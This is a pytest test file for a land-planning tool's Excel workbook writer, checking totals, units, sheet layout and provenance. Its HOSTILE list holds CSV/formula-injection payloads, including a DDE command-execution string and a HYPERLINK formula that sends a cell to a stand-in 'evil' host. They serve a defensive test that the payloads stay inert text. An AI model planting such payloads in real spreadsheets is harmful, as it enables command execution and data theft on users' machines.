"""The workbook: totals that close, numbers of the frame, and text that stays text."""

from __future__ import annotations

import errno
import zipfile
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from lists_world import list_assessment
from openpyxl.utils import get_column_letter
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet
from shapely import box

from landplan.errors import StoreError
from landplan.issues import Issue, codes
from landplan.reports import write_workbook
from landplan.reports.page import text_width
from landplan.schema import coerce
from landplan.tables import Assessment, Book, Provenance, Source, issue_table

SHEETS = ["汇总", "存量可出让", "增量可报批", "地块", "判定依据", "问题清单", "规则集", "对照"]
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "{=1+1}",
    "http://evil.example/",
    "mailto:a@b",
    "\t=1+1",
    "0012",
]
MU = 2000 / 3


def row(
    number: int, verdict: str, supply: str, area: float, zone: str = "S01", **more: Any
) -> dict[str, Any]:
    zones = {"S01": "示例经济技术开发区", "S02": "示例高新区"}
    return {
        "parcel_id": f"A-{number}",
        "parcel_name": f"示例地块{number}号",
        "zone_code": zone,
        "zone_name": zones[zone],
        "area_m2": area,
        "area_registered_m2": area,
        "far_min": 1.2,
        "invest_intensity_cny_per_m2": 2250.0,
        "farmland_overlap_m2": 0.0,
        "event_approval_on": pd.Timestamp("2026-03-01"),
        "is_zone_tied": False,
        "verdict": verdict,
        "supply_class": supply,
        "supply_reason_zh": "农转用已批 2026-03-01，未出让，具备出让条件",
        **more,
    }


def finding(parcel: str, status: str, **more: Any) -> dict[str, Any]:
    return {
        "parcel_id": parcel,
        "rule_id": "invest_intensity.min",
        "rulebook": "example.kaifaqu",
        "indicator": "invest_intensity_cny_per_m2",
        "basis": "set",
        "status": status,
        "force": "mandatory",
        "test": "at_least",
        "measured": 150.0,
        "required": 150.0,
        "unit": "万元/亩",
        "margin": 0.0,
        "since": "2022-12-25",
        "reference": "示例公告 附表",
        "mark": "示例",
        **more,
    }


def assessment(**changes: Any) -> Assessment:
    # Three thirds of an 亩: each is 0.33 in print, all three are one.
    third = MU / 3
    rows = [
        row(1, "ready", "stock", third),
        row(2, "not_ready", "stock_held", 10000.0, invest_intensity_cny_per_m2=2248.95),
        row(3, "ready", "stock", third, zone="S02"),
        row(4, "ready", "stock", third),
        row(5, "pending", "incremental", 20000.0, zone="S02", farmland_overlap_m2=2.0),
        row(6, "pending", "unknown", float("nan")),
    ]
    rows += [
        row(7 + at, "not_ready", "stock_held", 1000.0, parcel_name=text, notes=text)
        for at, text in enumerate(HOSTILE)
    ]
    parcels = gpd.GeoDataFrame(
        rows, geometry=[box(n, 0, n + 1, 1) for n in range(len(rows))], crs="EPSG:4526"
    )
    findings = [
        finding("A-1", "pass"),
        finding("A-2", "fail", measured=149.93, margin=-0.07),
        finding("A-5", "unknown", measured=None, margin=None, reason="missing"),
        finding("A-5", "pass", rule_id="clear_land.done", indicator="event_clear_land_state", test="one_of", unit="",
                measured=None, required=None, margin=None, measured_text="done", required_text="done、pending"),
        finding("A-6", "fail", rule_id="slope.mean", indicator="slope_mean_deg", force="advisory", unit="度", test="at_most"),
    ]  # fmt: skip
    issues = [
        Issue("ATTR.UNKNOWN_COLUMN", source="台账.xlsx", value="张三"),
        Issue("GEOM.INVALID", source="地块.shp", row=6, parcel_id="A-6", value="=1+1"),
    ]
    whole = Assessment(
        parcels=coerce(parcels.set_index("parcel_id"), "parcels"),
        zones=gpd.GeoDataFrame(geometry=[], crs="EPSG:4526"),
        overlaps=gpd.GeoDataFrame(geometry=[], crs="EPSG:4526"),
        indicators=coerce(pd.DataFrame(), "indicators"),
        events=coerce(pd.DataFrame(), "events"),
        findings=coerce(pd.DataFrame(findings), "findings"),
        issues=issue_table(issues),
        provenance=Provenance(
            as_of=date(2026, 11, 20),
            project="示例经济技术开发区 R&D（示例数据）",
            is_sample=True,
            version="0.1.0",
            libraries={"shapely": "2.2.0", "pyproj": "3.7.2"},
            books=(
                Book(
                    "cn.national-2023",
                    "工业项目建设用地控制指标",
                    "ab" * 32,
                    "2026-11-20",
                    "rulebook: cn.national-2023\n",
                ),
                Book(
                    "example.kaifaqu",
                    "示例开发区控制指标",
                    "cd" * 32,
                    "2026-11-20",
                    "rulebook: example.kaifaqu\nrules:\n  a: =1+1\n=2+2\n",
                ),
            ),
            sources=(
                Source(
                    "parcels",
                    "地块/地块.shp",
                    "ef" * 32,
                    17,
                    16,
                    1,
                    "EPSG:4526",
                    "declared",
                    "gb18030",
                    "content",
                    123456.0,
                ),
                Source("table", "台账/控制指标台账.xlsx", "01" * 32, 16, 16, 0),
            ),
            layers={"farmland": "=永久基本农田"},
            items={"clear_land": "净地", "approval": "农转用批复"},
            counts={"in": 17, "out": 16, "dropped": 1},
        ),
    )
    return replace(whole, **changes)


def opened(path: Path) -> Workbook:
    return openpyxl.load_workbook(path)


def rows_of(sheet: Worksheet) -> list[list[Any]]:
    return [[cell.value for cell in line] for line in sheet.iter_rows()]


def list_of(sheet: Worksheet) -> pd.DataFrame:
    """The table under the frozen header."""
    top = int(str(sheet.print_title_rows).replace("$", "").split(":")[1])
    lines = rows_of(sheet)
    return pd.DataFrame(lines[top:], columns=lines[top - 1])


def find(lines: list[list[Any]], first: str, after: int = 0) -> int:
    return next(at for at, line in enumerate(lines) if at >= after and line[0] == first)


@pytest.fixture(scope="module")
def book(tmp_path_factory: pytest.TempPathFactory) -> Workbook:
    return opened(write_workbook(assessment(), tmp_path_factory.mktemp("book") / "评价结果.xlsx"))


def test_the_sheets_stand_in_order_and_bear_the_sample_mark(book: Workbook) -> None:
    assert book.sheetnames == SHEETS
    for sheet in book:
        assert "【示例数据，不作依据】" in sheet["A1"].value
        assert sheet.page_setup.orientation == "landscape"
        assert str(sheet.page_setup.paperSize) == "9"
        assert "2026-11-20" in str(sheet.oddFooter.left.text)
    for name in SHEETS[1:]:
        assert book[name].auto_filter.ref
        assert book[name].freeze_panes
        assert book[name].print_title_rows


def test_real_data_bear_no_sample_mark(tmp_path: Path) -> None:
    told = replace(assessment().provenance, is_sample=False, project="某开发区")
    book = opened(write_workbook(assessment(provenance=told), tmp_path / "a.xlsx"))
    assert not [
        cell.value
        for sheet in book
        for line in sheet.iter_rows()
        for cell in line
        if "不作依据" in str(cell.value)
    ]


def test_no_cell_is_a_formula_or_a_link_and_hostile_text_reads_as_typed(book: Workbook) -> None:
    for sheet in book:
        assert not sheet._hyperlinks
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    parcels = list_of(book["地块"])
    # A tab is white space to the reader, so it is compared without.
    assert [name.strip() for name in parcels["地块名称"][6:]] == [name.strip() for name in HOSTILE]
    sheet = book["地块"]
    marked = [
        cell
        for line in sheet.iter_rows()
        for cell in line
        if str(cell.value).strip()[:1] in ("=", "+", "@", "{")
    ]
    assert len(marked) >= 2 * 6
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in marked)
    assert "=2+2" in [line[2] for line in rows_of(book["规则集"])]


def test_the_file_holds_no_formula_element(tmp_path: Path) -> None:
    path = write_workbook(assessment(), tmp_path / "a.xlsx")
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                text = archive.read(name)
                assert b"<f>" not in text
                assert b"<hyperlink" not in text
        assert not [name for name in archive.namelist() if "external" in name.lower()]


def test_the_table_by_zone_adds_up_both_ways(book: Workbook) -> None:
    lines = rows_of(book["汇总"])
    top = find(lines, "开发区")
    assert lines[top][:9] == [
        "开发区", "具备出让条件（宗）", "具备出让条件（亩）", "待补正（宗）", "待补正（亩）", "暂不具备（宗）", "暂不具备（亩）",
        "合计（宗）", "合计（亩）",
    ]  # fmt: skip
    first, second, total = lines[top + 1], lines[top + 2], lines[top + 3]
    assert (first[0], second[0], total[0]) == ("示例经济技术开发区", "示例高新区", "合计")
    # Ready: two thirds of an 亩 and one third. Not ready: 15 亩 and ten times 1.5 亩. Pending: 30 亩 and one without area.
    assert total[1::2][:4] == [3, 2, 11, 16]
    assert total[2::2][:4] == pytest.approx([1.0, 30.0, 30.0, 61.0], abs=1e-9)
    for place in range(1, 9):
        assert first[place] + second[place] == pytest.approx(total[place], abs=1e-9)
    for line in (first, second, total):
        assert line[1] + line[3] + line[5] == line[7]
        assert line[2] + line[4] + line[6] == pytest.approx(line[8], abs=1e-9)


def test_the_supply_balance_closes_and_agrees_with_the_lists(book: Workbook) -> None:
    lines = rows_of(book["汇总"])
    top = find(lines, "供应类别")
    end = find(lines, "合计", top)
    body = lines[top + 1 : end]
    assert sum(line[1] for line in body) == lines[end][1] == 16
    assert sum(line[2] for line in body) == pytest.approx(lines[end][2], abs=1e-9)
    assert sum(line[3] for line in body) == lines[end][3] == 1
    classes = {line[0]: line for line in body}
    for sheet, name in (("存量可出让", "存量可出让"), ("增量可报批", "增量可报批")):
        listed = list_of(book[sheet])
        total = listed.iloc[-1]
        assert total.iloc[0] == "合计"
        assert total.iloc[1] == f"{classes[name][1]} 宗"
        assert total["平面面积（亩）"] == pytest.approx(classes[name][2], abs=1e-9)
        assert listed["平面面积（亩）"].iloc[:-1].sum() == pytest.approx(total["平面面积（亩）"], abs=1e-9)


def test_the_total_of_three_thirds_of_a_mu_is_one_and_the_note_says_why(book: Workbook) -> None:
    sheet = book["存量可出让"]
    listed = list_of(sheet)
    assert listed.iloc[:-1, 0].tolist() == ["A-1", "A-4", "A-3"]
    assert listed["平面面积（亩）"].round(2).tolist() == [0.33, 0.33, 0.33, 1.0]
    assert any("合计由平方米相加" in str(line[0]) for line in rows_of(sheet)[:4])
    # Sorting by the filter must not carry the total away.
    assert str(sheet.auto_filter.ref).split(":")[1].strip("ABCDEFGHIJKLMNOPQRSTUVWXYZ") == str(
        sheet.max_row - 1
    )


def test_numbers_of_the_parcels_are_those_of_the_frame_in_printed_units(book: Workbook) -> None:
    frame = assessment().parcels
    sheet = book["地块"]
    listed = list_of(sheet)
    assert listed["地块编号"].tolist() == frame.index.tolist()
    assert listed["平面面积（亩）"].astype("float64").tolist() == pytest.approx(
        (frame["area_m2"] / MU).tolist(), nan_ok=True
    )
    assert listed["固定资产投资强度（万元/亩）"].tolist()[:2] == [150.0, 149.93]
    assert listed["结论"].tolist()[:2] == ["具备出让条件", "暂不具备"]
    assert listed["农转用批复日期"].tolist()[0] == datetime(2026, 3, 1)
    assert listed["多区并列"].tolist()[0] == "否"
    header = next(line for line in sheet.iter_rows() if line[0].value == "地块编号")
    formats = {cell.value: sheet.cell(cell.row + 1, cell.column).number_format for cell in header}
    assert formats["平面面积（亩）"] == "#,##0.00"
    fills = {sheet.cell(header[0].row + n, 4).fill.fgColor.rgb for n in (1, 2, 5)}
    assert len(fills) == 3  # ready, not ready and pending are told apart by fill as well as by word


def test_what_is_not_passed_comes_first_with_measured_limit_and_clause(book: Workbook) -> None:
    listed = list_of(book["判定依据"])
    assert listed["结果"].tolist() == ["不达标", "无法核验", "不达标", "达标", "达标"]
    first = listed.iloc[0]
    assert (first["地块编号"], first["核验内容"], first["实测值"], first["要求"], first["余量"], first["单位"]) == (
        "A-2", "固定资产投资强度", 149.93, 150, -0.07, "万元/亩",
    )  # fmt: skip
    assert (first["比较"], first["自"], first["依据"], first["效力"]) == (
        "不低于",
        datetime(2022, 12, 25),
        "示例公告 附表",
        "规范性",
    )
    words = listed[listed["规则"] == "clear_land.done"].iloc[0]
    assert (words["实测值"], words["要求"]) == ("完成", "完成、办理中")


def test_a_failing_number_never_prints_equal_to_its_limit(tmp_path: Path) -> None:
    whole = assessment()
    close = coerce(pd.DataFrame([finding("A-2", "fail", measured=149.9996, margin=-0.0004)]), "findings")
    sheet = opened(write_workbook(replace(whole, findings=close), tmp_path / "a.xlsx"))["判定依据"]
    cells = {cell.value: cell.number_format for cell in sheet[sheet.max_row]}
    # 149.9996 is 150.00 and 150.000 in print; four decimals tell them apart, and the limit and the margin follow.
    assert (cells[149.9996], cells[150], cells[-0.0004]) == ("#,##0.0000",) * 3


def test_blocking_issues_come_first_with_their_mend_and_party(book: Workbook) -> None:
    listed = list_of(book["问题清单"])
    assert listed["问题代码"].tolist() == ["GEOM.INVALID", "ATTR.UNKNOWN_COLUMN"]
    first = listed.iloc[0]
    assert (first["严重程度"], first["影响结论"], first["处理办法"], first["责任方"], first["原值"]) == (
        "错误", "是", codes()["GEOM.INVALID"].mend_zh, "测绘单位", "=1+1",
    )  # fmt: skip


def test_the_ten_most_common_reasons_are_counted(book: Workbook) -> None:
    lines = rows_of(book["汇总"])
    top = find(lines, "原因")
    found = {line[0]: line[3] for line in lines[top + 1 : top + 4]}
    assert found == {
        "不达标：固定资产投资强度": 1,
        "无法核验：固定资产投资强度": 1,
        "数据问题：图形不合法，无法量算": 1,
    }


def test_rulebooks_and_inputs_stand_with_their_whole_hashes(book: Workbook) -> None:
    cells = {cell for line in rows_of(book["汇总"]) for cell in line}
    assert {
        "ab" * 32,
        "cd" * 32,
        "ef" * 32,
        "01" * 32,
        "cn.national-2023",
        "2026-11-20",
        "EPSG:4526",
        "gb18030",
    } <= cells
    text = list_of(book["规则集"])
    assert text[text["规则集"] == "example.kaifaqu"]["原文"].tolist() == [
        "rulebook: example.kaifaqu",
        "rules:",
        "  a: =1+1",
        "=2+2",
    ]
    assert any("cd" * 32 in str(line[0]) for line in rows_of(book["规则集"])[:4])


def test_the_dictionary_sheet_explains_every_column_of_the_parcels(book: Workbook) -> None:
    listed = list_of(book["对照"]).set_index("GeoPackage 字段")
    assert set(assessment().parcels.columns) - {"geometry"} <= set(listed.index)
    assert listed.at["area_m2", "显示单位"] == "亩"
    assert listed.at["area_m2", "GeoPackage 单位"] == "m2"


def test_columns_are_wide_enough_for_their_widest_number(book: Workbook) -> None:
    for sheet in book.worksheets[1:]:
        for place, column in enumerate(sheet.iter_cols(), start=1):
            width = sheet.column_dimensions[get_column_letter(place)].width
            for cell in column:
                if isinstance(cell.value, int | float):
                    assert text_width(f"{cell.value:,.2f}") <= width


def test_the_same_assessment_gives_the_same_bytes(tmp_path: Path) -> None:
    first = write_workbook(assessment(), tmp_path / "a.xlsx").read_bytes()
    assert write_workbook(assessment(), tmp_path / "b.xlsx").read_bytes() == first


def test_an_assessment_without_a_row_still_makes_every_sheet(tmp_path: Path) -> None:
    whole = assessment()
    empty = replace(
        whole, parcels=whole.parcels.iloc[:0], findings=whole.findings.iloc[:0], issues=whole.issues.iloc[:0],
        provenance=replace(whole.provenance, books=(), sources=()),
    )  # fmt: skip
    book = opened(write_workbook(empty, tmp_path / "a.xlsx"))
    assert book.sheetnames == SHEETS
    assert "（没有符合条件的地块）" in [line[0] for line in rows_of(book["存量可出让"])]


def test_text_longer_than_a_cell_is_cut_and_says_so(tmp_path: Path) -> None:
    whole = assessment()
    parcels = whole.parcels.copy()
    parcels.loc["A-1", "parcel_name"] = "长" * 40_000
    book = opened(write_workbook(replace(whole, parcels=parcels), tmp_path / "a.xlsx"))
    name = list_of(book["地块"])["地块名称"].iloc[0]
    assert len(name) == 32_767
    assert name.endswith("长…")


def test_a_place_that_cannot_be_written_is_named_and_the_old_book_stays(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write_workbook(assessment(), tmp_path / "a.xlsx")
    before = path.read_bytes()

    def full(*_: object, **__: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("zipfile.ZipFile.__init__", full)
    with pytest.raises(StoreError, match="磁盘空间不足"):
        write_workbook(assessment(), path)
    assert path.read_bytes() == before
    assert [file.name for file in tmp_path.iterdir()] == ["a.xlsx"]
    with pytest.raises(StoreError, match="xlsx"):
        write_workbook(assessment(), tmp_path / "a.xls")


LISTS = ["供应结构", "储备库", "报批批次", "用地清单", "要素台账", "厂房楼宇"]


@pytest.fixture(scope="module")
def lists(tmp_path_factory: pytest.TempPathFactory) -> Workbook:
    return opened(write_workbook(list_assessment(), tmp_path_factory.mktemp("lists") / "核验.xlsx"))


def test_lists_with_something_to_say_stand_before_the_parcels_and_registers_behind_the_issues(
    lists: Workbook,
) -> None:
    assert lists.sheetnames == [*SHEETS[:3], *LISTS, *SHEETS[3:6], "批次办理进度", *SHEETS[6:]]
    for name in (*LISTS, "批次办理进度"):
        assert "【示例数据，不作依据】" in lists[name]["A1"].value
        assert "2026-11-20" in str(lists[name].oddFooter.left.text)
    for name in (*LISTS[1:], "批次办理进度"):
        assert lists[name].auto_filter.ref and lists[name].freeze_panes


def test_the_structure_of_supply_closes_both_ways_on_every_axis(lists: Workbook) -> None:
    lines = rows_of(lists["供应结构"])
    whole = list_assessment().parcels
    area = round(sum(round(value * 0.15) for value in whole["area_m2"].dropna())) / 100
    for head in ("报批状态", "配套状态", "供应状态", "利用状态"):
        top = find(lines, head)
        end = find(lines, "合计", top)
        body = [[0 if cell is None else cell for cell in line[1:]] for line in lines[top + 1 : end]]
        for at, total in enumerate(lines[end][1:]):
            if total is not None:
                assert round(sum(line[at] for line in body), 2) == total
        for line in [*body, lines[end][1:]]:
            cells = [cell for cell in line if cell is not None]
            assert sum(cells[:-2:2]) == cells[-2]
            assert round(sum(cells[1:-2:2]), 2) == cells[-1]
        assert [cell for cell in lines[end] if cell is not None][-2:] == [12, area]


def test_the_reserve_counts_only_what_is_in_it(lists: Workbook) -> None:
    table = list_of(lists["储备库"])
    assert table["地块编号"].tolist() == ["C-1", "A-3", "A-21", "在库合计"]
    assert table["出库原因"].iloc[0] == "出让" and table["出库原因"].iloc[1:].isna().all()
    assert table["平面面积（亩）"].iloc[-1] == round(182.65 + 138.25, 2)
    assert table["入库日"].iloc[1] == datetime(2024, 5, 1)


def test_batches_stand_with_their_step_and_the_parcels_in_them(lists: Workbook) -> None:
    table = list_of(lists["报批批次"]).set_index("批次号")
    assert table.loc["2026-01", "可否上报"] == "已批复"
    assert table.loc["2026-02", "环节状态"] == "办理中" and table.loc["2026-02", "已历天数"] == 71
    assert table.loc["2026-02", "所含地块"] == "B-1、B-2、Z-9"


def test_tasks_stand_with_days_and_cost_in_the_units_people_read(lists: Workbook) -> None:
    table = list_of(lists["用地清单"])
    row = table[table["事项名称"] == "通电"].iloc[0]
    assert (row["地块编号"], row["工作日"], row["费用（万元）"]) == ("A-21", 90, 50)
    assert row["最早完成"] == datetime(2027, 4, 30) and row["类别"] == "几通一平"


def test_nodes_stand_with_what_is_left_and_stale_ones_are_marked(lists: Workbook) -> None:
    table = list_of(lists["要素台账"]).set_index("节点")
    assert table.loc["示例一站", "可用余量"] == 63_000 - 20_000 - 8_000
    assert table.loc["示例一站", "单位"] == "kVA" and table.loc["示例水厂", "要素"] == "供水"
    assert table["已过期"].to_dict() == {
        "示例一站": "否", "示例三站": "是", "示例二站": "否", "示例水厂": "否",
    }  # fmt: skip


def test_the_rate_of_use_leaves_out_the_building_nobody_measured_and_says_so(lists: Workbook) -> None:
    notes = [line[0] for line in rows_of(lists["厂房楼宇"])[:4]]
    assert "使用率 65.00%（13,000.00 / 20,000.00 ㎡，四舍五入；另有 1 行面积不明或有误，未计入）。" in notes
    table = list_of(lists["厂房楼宇"])
    assert table["建筑编号"].tolist() == ["F-2", "F-1", "F-3"]
    assert "层高（m）" not in table.columns


def test_the_parcels_bear_their_axes_tier_and_first_day_beside_the_verdict(lists: Workbook) -> None:
    table = list_of(lists["地块"])
    heads = table.columns.tolist()
    assert heads[3:8] == ["结论", "供应类别", "存量类型", "成熟度判定", "最早具备条件日"]
    assert table["存量类型"].iloc[0] == "批而未供" and table["报批状态"].iloc[1] == "已征收"
    assert table["最早具备条件日"].iloc[1] == datetime(2027, 1, 15)


def test_money_is_balanced_by_head_and_year_and_a_readied_area_has_its_cost(tmp_path: Path) -> None:
    plain = list_assessment()
    budget = pd.DataFrame({"head": ["文物勘探"], "year": [2026], "amount_cny": [5e6], "document": ["示例"]})
    spent = pd.DataFrame(
        {"head": ["文物勘探"], "parcel_id": ["A-1"], "amount_cny": [2e6], "on": ["2026-03-01"], "person": ["示例人员"]}
    )  # fmt: skip
    registers = {"budget": coerce(budget, "budget"), "commitments": coerce(spent, "commitments")}
    book = opened(write_workbook(replace(plain, registers=registers), tmp_path / "a.xlsx"))
    row = list_of(book["前期经费"]).iloc[0]
    assert (row["年度"], row["经费科目"], row["金额（万元）"]) == (2026, "文物勘探", 500)
    assert row["余额（万元）"] == 300
    assert "前期经费安排" in book.sheetnames and "要素台账" not in book.sheetnames


def test_a_register_of_the_bureaus_own_stands_under_its_title_with_words_and_units(tmp_path: Path) -> None:
    folder = tmp_path / "登记表"
    folder.mkdir()
    (folder / "roads.yaml").write_text(
        "register: roads\ntitle: 汇总\ntitle_en: Roads\nabout: 每行一条示例道路\nabout_en: a road\nkey: [road_no]\ngeometry: zone_code\ncolumns:\n"
        "  - {name: road_no, label_zh: 道路编号, label_en: Number, kind: code, required: true, meaning: Number}\n"
        "  - zone_code\n"
        "  - {name: length_m, label_zh: 长度, label_en: Length, kind: length, unit: m, meaning: Length}\n"
        "  - {name: grade, label_zh: 等级, label_en: Grade, kind: category, values: {main: [主干路], side: [支路]}, meaning: Grade}\n",
        encoding="utf-8",
    )
    frame = pd.DataFrame(
        {
            "road_no": ["=1+1", "R-2"],
            "zone_code": ["EX01", None],
            "length_m": [1200.5, None],
            "grade": ["main", "side"],
        }
    )
    project = SimpleNamespace(
        registers={}, path=lambda name: tmp_path / name, calendar=None,
        supply=SimpleNamespace(admission=["approval"], batch_requires=[]),
    )  # fmt: skip
    whole = replace(list_assessment(), registers={"roads": frame})
    book = opened(write_workbook(whole, tmp_path / "a.xlsx", project))
    # Its title is taken by a sheet of ours.
    table = list_of(book["汇总 2"])
    assert table.columns.tolist() == ["道路编号", "开发区代码", "长度（m）", "等级"]
    assert table["道路编号"].tolist() == ["=1+1", "R-2"] and table["等级"].tolist() == ["主干路", "支路"]
    assert table["长度（m）"].iloc[0] == 1200.5
    bare = opened(write_workbook(whole, tmp_path / "b.xlsx"))
    assert "没有找到这个登记簿的声明" in bare["roads"]["A2"].value


def test_hostile_words_of_lists_are_text(tmp_path: Path) -> None:
    book = opened(write_workbook(list_assessment(hostile=True), tmp_path / "a.xlsx"))
    for sheet in book:
        assert not sheet._hyperlinks
        assert not [cell for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]


def test_the_same_lists_give_the_same_bytes(tmp_path: Path) -> None:
    one, other = (write_workbook(list_assessment(), tmp_path / name) for name in ("a.xlsx", "b.xlsx"))
    assert one.read_bytes() == other.read_bytes()


def test_a_finding_a_person_decided_over_stands_with_the_settled_ones_and_names_the_decision(
    tmp_path: Path,
) -> None:
    rows = [
        finding("A-2", "fail", measured=149.93, margin=-0.07, overridden_by="override.invest_intensity.min"),
        finding("A-5", "unknown", measured=None, margin=None, reason="missing"),
    ]
    whole = assessment(findings=coerce(pd.DataFrame(rows), "findings"))
    table = list_of(opened(write_workbook(whole, tmp_path / "a.xlsx"))["判定依据"])
    assert table["地块编号"].tolist() == ["A-5", "A-2"]
    assert table["被人工决定取代"].iloc[1] == "override.invest_intensity.min"
